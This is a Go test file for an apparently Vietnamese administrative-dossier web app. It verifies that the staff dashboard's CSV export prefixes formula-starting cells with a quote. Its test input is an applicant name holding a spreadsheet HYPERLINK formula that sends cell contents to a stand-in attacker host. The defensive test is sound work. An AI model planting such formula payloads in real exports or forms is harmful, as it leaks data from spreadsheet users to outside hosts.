package web

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/motcua/motcua/internal/demo"
	"github.com/motcua/motcua/internal/dossier"
	"github.com/motcua/motcua/internal/store"
)

// TestDashboardCSVNeutralisesFormulas: defect 8. An applicant named
// =HYPERLINK(...) reaches the dashboard's CSV export as text, prefixed with a
// quote, so that no spreadsheet evaluates it.
func TestDashboardCSVNeutralisesFormulas(t *testing.T) {
	s := newTestServer(t, Options{BaseURL: func() string { return "http://motcua.test" }})
	ctx := context.Background()
	pv, err := s.DB.ProcedureByCode(ctx, officeExtractCopy)
	if err != nil {
		t.Fatal(err)
	}
	u, err := s.DB.UnitByCode(ctx, demo.UnitCode)
	if err != nil {
		t.Fatal(err)
	}
	name := `=HYPERLINK("http://evil.example/?d="&A2,"Xem hồ sơ")`
	in := dossier.Intake{Channel: dossier.Counter, Applicant: dossier.Applicant{FullName: name, IDNumber: "079203001234", Phone: "0912345678"}}
	for _, c := range pv.Procedure.Components {
		if c.Required {
			in.Components = append(in.Components, dossier.Component{Name: c.Name})
		}
	}
	d, err := s.DB.Intake(ctx, store.IntakeRequest{UnitID: u.ID, ProcedureCode: officeExtractCopy, Intake: in, Actor: officeOfficer(t, s.DB, "tiepnhan1")})
	if err != nil {
		t.Fatal(err)
	}
	rec := s.officeLogin(t, "tiepnhan1")
	resp, body := rec.get(t, "/can-bo/thong-ke/ho-so.csv")
	if resp.StatusCode != 200 {
		t.Fatalf("dossiers CSV = %d", resp.StatusCode)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts with a formula character", cell)
			}
		}
		if len(row) > 2 && row[0] == d.Code {
			found = true
			if row[2] != "'"+name {
				t.Errorf("applicant cell %q, want %q", row[2], "'"+name)
			}
		}
	}
	if !found {
		t.Errorf("dossier %s not in the CSV:\n%s", d.Code, body)
	}
}
